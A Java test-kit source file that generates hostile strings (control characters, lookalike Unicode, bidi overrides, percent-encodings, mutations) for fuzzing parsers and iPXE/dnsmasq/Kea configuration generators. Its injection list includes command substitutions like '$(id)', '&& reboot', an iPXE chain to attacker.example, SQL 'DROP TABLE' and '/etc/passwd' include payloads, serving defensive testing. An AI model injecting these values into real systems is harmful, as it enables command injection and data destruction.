package io.github.netboot6.testkit;

import static com.google.common.base.Preconditions.checkArgument;

import java.util.List;
import java.util.random.RandomGenerator;
import org.jspecify.annotations.Nullable;

/**
 * Generators of hostile text, for testing any parser (it must reject or accept the text, never
 * misread it or fail with an undocumented exception) and any generator of configuration or scripts
 * (it must escape or reject the text, never let it change the output's meaning).
 *
 * <p>Each generator draws one category of hostility, usually embedded in benign-looking text
 * (before, inside or after something like {@code host-01} or {@code 2001:db8::1}) so that the
 * hostile part is not always at the start:
 *
 * <ul>
 *   <li>{@link #blank()}: empty and whitespace-only text, including non-ASCII spaces;
 *   <li>{@link #veryLong()}: text of {@value #MIN_LONG} to {@value #MAX_LONG} characters;
 *   <li>{@link #controlCharacters()}: NUL, CR, LF, ESC, DEL, C1 controls, line separators;
 *   <li>{@link #lookalikes()}: non-ASCII digits and lookalikes (Arabic-Indic and fullwidth digits,
 *       fullwidth colon and full stop, Turkish dotted and dotless i, Cyrillic letters, the Kelvin
 *       sign), which {@link Character#isDigit} or a locale-sensitive case change may accept;
 *   <li>{@link #unpairedSurrogates()}: UTF-16 that is not well-formed;
 *   <li>{@link #bidiControls()}: bidirectional overrides, isolates and marks, and zero-width
 *       characters, which make displayed text differ from its content;
 *   <li>{@link #injections()}: fragments that mean something to a shell, iPXE, GRUB, dnsmasq, Kea
 *       or SQL: {@code ${...}}, {@code ||}, {@code &&}, {@code ;}, backticks, {@code $(...)},
 *       quotes, newlines, {@code #}, {@code --}, path traversal;
 *   <li>{@link #percentEncodings()}: percent-encoded controls, separators and traversal, overlong
 *       and invalid UTF-8, double encoding and malformed escapes;
 *   <li>{@link #mutations(Generator)}: valid text, corrupted.
 * </ul>
 *
 * <p>{@link #any()} draws from all categories but mutations. Example:
 *
 * <pre>{@code
 * RandomGenerator random = new SplittableRandom(42);
 * for (int i = 0; i < 10_000; i++) {
 *   String text = HostileStrings.any().next(random);
 *   assertThatCode(() -> parser.tryParse(text)).doesNotThrowAnyException();
 * }
 * }</pre>
 *
 * <p>Every generator is a pure function of the {@link RandomGenerator} it is given: the same seed
 * gives the same text, in every default locale.
 */
public final class HostileStrings {

  /** The shortest text drawn by {@link #veryLong()}. */
  public static final int MIN_LONG = 255;

  /** The longest text drawn by {@link #veryLong()}. */
  public static final int MAX_LONG = 10_000;

  private static final List<String> BENIGN =
      List.of(
          "a",
          "host-01",
          "2001:db8::1",
          "00:11:22:33:44:55",
          "8c3d9a58-1b2e-4c5f-9a0b-112233445566",
          "http://[2001:db8::1]/boot.ipxe",
          "iPXE",
          "PXEClient",
          "x86_64");

  private static final List<String> BLANKS =
      List.of("", " ", "  ", "\t", " \t ", "\u00a0", "\u2003", "\u2007", "\u202f", "\u3000");

  private static final List<String> CONTROLS =
      List.of(
          "\u0000",
          "\n",
          "\r",
          "\r\n",
          "\u001b",
          "\u001b[2J",
          "\u001b]0;x\u0007",
          "\u0007",
          "\b",
          "\u000b",
          "\f",
          "\u007f",
          "\u0085",
          "\u009b",
          "\u2028",
          "\u2029",
          "\t");

  private static final List<String> SURROGATES =
      List.of(
          "\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800", "\ud83d", "\ud83da", "\ude00");

  private static final List<String> BIDI =
      List.of(
          "\u202a",
          "\u202b",
          "\u202c",
          "\u202d",
          "\u202e",
          "\u2066",
          "\u2067",
          "\u2068",
          "\u2069",
          "\u200e",
          "\u200f",
          "\u061c",
          "\u200b",
          "\u200c",
          "\u200d",
          "\u2060",
          "\ufeff",
          "\u202egnp.exe",
          "\u2067\u2069");

  private static final List<String> INJECTIONS =
      List.of(
          "${",
          "}",
          "${net0/mac}",
          "${root-path}",
          "${${x}}",
          "${x:hex}",
          "$${x}",
          "||",
          "|| shell",
          "&&",
          "&& reboot",
          ";",
          "; echo pwned",
          "`",
          "`id`",
          "$(id)",
          "$((1+1))",
          "\"",
          "'",
          "\\",
          "\n",
          "\r\n",
          "\nchain http://attacker.example/x\n",
          "\n:label",
          "\ngoto label",
          "\nset root-path x",
          "#",
          "#!ipxe\n",
          "--",
          "--option",
          "' OR '1'='1",
          "\"; DROP TABLE hosts; --",
          "../",
          "..\\",
          "*",
          "?",
          "[",
          "]",
          "{",
          "|",
          "&",
          "<",
          ">",
          ",",
          "=",
          ",set:evil",
          "\ndhcp-host=",
          "\"}, {\"",
          "<?include \"/etc/passwd\"?>",
          "{{7*7}}",
          "%s%n",
          "}\nmenuentry x {");

  private static final List<String> PERCENT =
      List.of(
          "%00",
          "%0a",
          "%0A",
          "%0d%0a",
          "%1b",
          "%20",
          "%25",
          "%2525",
          "%252e",
          "%2e%2e%2f",
          "%2E%2E/",
          "%2f",
          "%5c",
          "%24%7b",
          "%7c%7c",
          "%3b",
          "%60",
          "%22",
          "%27",
          "%23",
          "%c0%ae",
          "%c0%80",
          "%ff",
          "%fe%ff",
          "%e2%80%ae",
          "%ed%a0%80",
          "%",
          "%%",
          "%4",
          "%g1",
          "%zz",
          "%-1",
          "%+1",
          "%u0041",
          "+");

  /** Characters that mutations insert and append: one of each hostile kind. */
  private static final String JUNK =
      "\u0000\n\r\u001b\u007f$`;|&\"'#%{}\\ \u00a0\u0130\u0131\u0660\uff10\uff1a\u202e\ufeff"
          + "\ud800\udc00";

  private HostileStrings() {}

  /**
   * Returns a generator of empty and whitespace-only text: ASCII spaces and tabs, and the non-ASCII
   * spaces U+00A0, U+2003, U+2007, U+202F and U+3000 (some of which {@link String#isBlank()} and
   * {@link String#trim()} do not remove).
   *
   * @return the generator; it draws the empty string often
   */
  public static Generator<String> blank() {
    return random -> {
      int parts = random.nextInt(4);
      StringBuilder sb = new StringBuilder();
      for (int i = 0; i < parts; i++) {
        sb.append(pick(BLANKS, random));
      }
      return sb.toString();
    };
  }

  /**
   * Returns a generator of very long text, {@value #MIN_LONG} to {@value #MAX_LONG} characters,
   * often at a power-of-two boundary (255, 256, 257, 1024, 4096, 8192 and their neighbours): one
   * character repeated, a valid-looking unit repeated ({@code 2001:db8:}, {@code ff:}, {@code a.}),
   * or random printable ASCII.
   *
   * @return the generator
   */
  public static Generator<String> veryLong() {
    int[] boundaries = {255, 256, 257, 1023, 1024, 1025, 4095, 4096, 4097, 8191, 8192, 8193};
    List<String> units = List.of("a", "0", "f", ":", ".", "2001:db8:", "ff:", "a.", "\u00e9");
    return random -> {
      int length =
          random.nextBoolean()
              ? boundaries[random.nextInt(boundaries.length)]
              : random.nextInt(MIN_LONG, MAX_LONG + 1);
      StringBuilder sb = new StringBuilder(length);
      if (random.nextInt(3) == 0) {
        while (sb.length() < length) {
          sb.append((char) random.nextInt(0x20, 0x7f));
        }
      } else {
        String unit = pick(units, random);
        while (sb.length() < length) {
          sb.append(unit);
        }
        sb.setLength(length);
      }
      return sb.toString();
    };
  }

  /**
   * Returns a generator of text with one to three control characters or sequences: NUL, LF, CR,
   * CRLF, ESC (alone and in ANSI sequences), BEL, BS, VT, FF, TAB, DEL, the C1 controls NEL
   * (U+0085) and CSI (U+009B), and the line and paragraph separators U+2028 and U+2029.
   *
   * @return the generator
   */
  public static Generator<String> controlCharacters() {
    return embedding(CONTROLS);
  }

  /**
   * Returns a generator of valid-looking text (an address, a MAC, a UUID, a class name) in which
   * one or more characters are replaced by a lookalike: digits by Arabic-Indic (U+0660), extended
   * Arabic-Indic (U+06F0), Devanagari (U+0966), fullwidth (U+FF10) or mathematical (U+1D7CE,
   * outside the BMP) digits; {@code :} by fullwidth colon U+FF1A or ratio U+2236; {@code .} by
   * fullwidth full stop U+FF0E or one-dot leader U+2024; {@code -} by hyphen U+2010 or minus
   * U+2212; {@code /} by division slash U+2215; {@code i}, {@code I} by Turkish dotless and dotted
   * i (U+0131, U+0130); letters by fullwidth letters, Cyrillic lookalikes, the Kelvin sign (U+212A)
   * and long s (U+017F).
   *
   * @return the generator; every value has at least one non-ASCII character
   */
  public static Generator<String> lookalikes() {
    List<String> bases =
        List.of(
            "2001:db8::1",
            "00:11:22:33:44:55",
            "192.0.2.1",
            "8c3d9a58-1b2e-4c5f-9a0b-112233445566",
            "iPXE",
            "IPXE",
            "PXEClient",
            "HTTPClient",
            "file.ipxe",
            "http://boot.example/x",
            "KEA",
            "x64",
            "16",
            "343");
    return random -> {
      String base = pick(bases, random);
      int forced = random.nextInt(base.length());
      StringBuilder sb = new StringBuilder(base.length() + 8);
      for (int i = 0; i < base.length(); i++) {
        char c = base.charAt(i);
        String lookalike = lookalike(c, random);
        boolean replace = i == forced || random.nextInt(4) == 0;
        sb.append(replace && lookalike != null ? lookalike : String.valueOf(c));
      }
      if (sb.toString().equals(base)) {
        // Every base has a character with a lookalike; this only guards future bases.
        sb.append('\uff10');
      }
      return sb.toString();
    };
  }

  /**
   * Returns a generator of text with an unpaired UTF-16 surrogate: a lone high or low surrogate, a
   * low-high pair in the wrong order, or the first half of an emoji followed by ASCII. Such text
   * has no UTF-8 encoding: encoders replace or reject it.
   *
   * @return the generator; every value has at least one unpaired surrogate
   */
  public static Generator<String> unpairedSurrogates() {
    // Two fragments side by side can pair up (U+D83D then U+DE00): keep only malformed text.
    return embedding(SURROGATES).filter(HostileStrings::hasUnpairedSurrogate);
  }

  private static boolean hasUnpairedSurrogate(String s) {
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (Character.isHighSurrogate(c)
          && i + 1 < s.length()
          && Character.isLowSurrogate(s.charAt(i + 1))) {
        i++;
      } else if (Character.isSurrogate(c)) {
        return true;
      }
    }
    return false;
  }

  /**
   * Returns a generator of text with invisible formatting characters: the bidirectional embeddings
   * and overrides (U+202A to U+202E, e.g. "right-to-left override" U+202E), isolates (U+2066 to
   * U+2069), marks (U+200E, U+200F, U+061C) and zero-width characters (U+200B to U+200D, U+2060,
   * U+FEFF). All are Unicode category Cf.
   *
   * @return the generator
   */
  public static Generator<String> bidiControls() {
    return embedding(BIDI);
  }

  /**
   * Returns a generator of text with one or two injection fragments: iPXE settings expansion
   * ({@code ${net0/mac}}, nested and escaped forms), command separators ({@code ||}, {@code &&},
   * {@code ;}, newlines with an iPXE command or label after them), shell command substitution
   * (backticks, {@code $(...)}), quotes and backslashes, comments ({@code #}, {@code --}), SQL,
   * path traversal, glob and redirection characters, dnsmasq and Kea configuration fragments, GRUB
   * blocks and template syntax.
   *
   * @return the generator
   */
  public static Generator<String> injections() {
    return embedding(INJECTIONS);
  }

  /**
   * Returns a generator of text with percent encodings that decode to something hostile or do not
   * decode at all: encoded NUL, CR, LF, ESC, separators and quotes; encoded and double-encoded path
   * traversal; overlong UTF-8 ({@code %c0%ae}, {@code %c0%80}); bytes that are never UTF-8 ({@code
   * %ff}); an encoded surrogate ({@code %ed%a0%80}) and right-to-left override; and malformed
   * escapes ({@code %}, {@code %4}, {@code %g1}, {@code %u0041}).
   *
   * @return the generator
   */
  public static Generator<String> percentEncodings() {
    return embedding(PERCENT);
  }

  /**
   * Returns a generator that draws from every category above except mutations, uniformly.
   *
   * @return the generator
   */
  public static Generator<String> any() {
    return Generator.mix(
        List.of(
            blank(),
            veryLong(),
            controlCharacters(),
            lookalikes(),
            unpairedSurrogates(),
            bidiControls(),
            injections(),
            percentEncodings()));
  }

  /**
   * Returns a generator that draws a valid text from {@code valid} and corrupts it with {@link
   * #mutate}.
   *
   * @param valid a generator of valid text for the code under test
   * @return the generator of corrupted text
   */
  public static Generator<String> mutations(Generator<String> valid) {
    return random -> mutate(valid.next(random), random);
  }

  /**
   * Corrupts {@code valid} with one to three edits, each one of: insert a hostile character, delete
   * a character, replace a character with a hostile one, duplicate a range, swap two neighbouring
   * characters, truncate, or append hostile junk. The hostile characters are one of each kind above
   * (NUL, CR, LF, ESC, DEL, shell and iPXE metacharacters, {@code %}, non-ASCII spaces and digits,
   * Turkish i, U+202E, U+FEFF, lone surrogates).
   *
   * @param valid the text to corrupt
   * @param random the source of randomness
   * @return the corrupted text; never equal to {@code valid}
   */
  public static String mutate(String valid, RandomGenerator random) {
    StringBuilder sb = new StringBuilder(valid);
    int edits = random.nextInt(1, 4);
    for (int e = 0; e < edits; e++) {
      int n = sb.length();
      switch (random.nextInt(7)) {
        case 0 -> sb.insert(random.nextInt(n + 1), junk(random));
        case 1 -> {
          if (n > 0) {
            sb.deleteCharAt(random.nextInt(n));
          }
        }
        case 2 -> {
          if (n > 0) {
            sb.setCharAt(random.nextInt(n), junk(random));
          }
        }
        case 3 -> {
          if (n > 0) {
            int from = random.nextInt(n);
            int to = random.nextInt(from, n) + 1;
            sb.insert(to, sb.substring(from, to));
          }
        }
        case 4 -> {
          if (n > 1) {
            int i = random.nextInt(n - 1);
            char c = sb.charAt(i);
            sb.setCharAt(i, sb.charAt(i + 1));
            sb.setCharAt(i + 1, c);
          }
        }
        case 5 -> sb.setLength(n == 0 ? 0 : random.nextInt(n));
        default -> {
          int count = random.nextInt(1, 9);
          for (int i = 0; i < count; i++) {
            sb.append(junk(random));
          }
        }
      }
    }
    if (sb.toString().equals(valid)) {
      // The edits cancelled out (e.g. a swap of two equal characters): corrupt it for sure.
      sb.append(junk(random));
    }
    return sb.toString();
  }

  private static char junk(RandomGenerator random) {
    return JUNK.charAt(random.nextInt(JUNK.length()));
  }

  /** Draws one to two fragments, each alone or before, inside or after a benign text. */
  private static Generator<String> embedding(List<String> fragments) {
    checkArgument(!fragments.isEmpty(), "fragments must not be empty");
    return random -> {
      int count = random.nextInt(1, 3);
      StringBuilder sb = new StringBuilder();
      for (int i = 0; i < count; i++) {
        String fragment = pick(fragments, random);
        String benign = pick(BENIGN, random);
        switch (random.nextInt(4)) {
          case 0 -> sb.append(fragment);
          case 1 -> sb.append(fragment).append(benign);
          case 2 -> sb.append(benign).append(fragment);
          default -> {
            int at = random.nextInt(benign.length() + 1);
            sb.append(benign, 0, at).append(fragment).append(benign, at, benign.length());
          }
        }
      }
      return sb.toString();
    };
  }

  private static String pick(List<String> values, RandomGenerator random) {
    return values.get(random.nextInt(values.size()));
  }

  private static @Nullable String lookalike(char c, RandomGenerator random) {
    if (c >= '0' && c <= '9') {
      int d = c - '0';
      return switch (random.nextInt(5)) {
        case 0 -> String.valueOf((char) (0x0660 + d));
        case 1 -> String.valueOf((char) (0x06F0 + d));
        case 2 -> String.valueOf((char) (0x0966 + d));
        case 3 -> String.valueOf((char) (0xFF10 + d));
        default -> new String(Character.toChars(0x1D7CE + d));
      };
    }
    @Nullable String special =
        switch (c) {
          case ':' -> random.nextBoolean() ? "\uff1a" : "\u2236";
          case '.' -> random.nextBoolean() ? "\uff0e" : "\u2024";
          case '-' -> random.nextBoolean() ? "\u2010" : "\u2212";
          case '/' -> "\u2215";
          case 'i' -> random.nextInt(3) == 0 ? "\u0456" : "\u0131";
          case 'I' -> random.nextInt(3) == 0 ? "\u0406" : "\u0130";
          case 'K' -> "\u212a";
          case 's' -> "\u017f";
          case 'a' -> "\u0430";
          case 'e' -> "\u0435";
          case 'o' -> "\u043e";
          case 'c' -> "\u0441";
          case 'p' -> "\u0440";
          case 'x' -> "\u0445";
          default -> null;
        };
    if (special != null) {
      return special;
    }
    if (c >= 'A' && c <= 'Z') {
      return String.valueOf((char) (0xFF21 + (c - 'A')));
    }
    if (c >= 'a' && c <= 'z') {
      return String.valueOf((char) (0xFF41 + (c - 'a')));
    }
    return null;
  }
}
